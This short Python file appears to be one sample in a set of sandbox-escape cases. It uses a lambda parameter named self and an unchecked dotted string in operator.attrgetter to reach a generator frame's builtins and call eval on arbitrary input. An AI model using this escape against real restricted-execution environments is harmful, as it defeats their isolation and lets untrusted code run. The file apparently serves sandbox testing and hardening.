# family: runner
# Escape: a lambda whose parameter is named self may return type(self) (trusted by name); given an
# attrgetter it yields the attrgetter class. The dotted name "gi_frame.f_builtins" is only a string argument of
# an ordinary call, so nobody checks it: it walks a generator's frame to the builtins dict, and eval runs code.
import operator


def numbers():
    yield 1


def tool(expression: str):
    reveal = (lambda self: type(self))(operator.attrgetter("real"))
    gen = numbers()
    builtins_ns = reveal("gi_frame.f_builtins")(gen)
    return builtins_ns["eval"](expression)
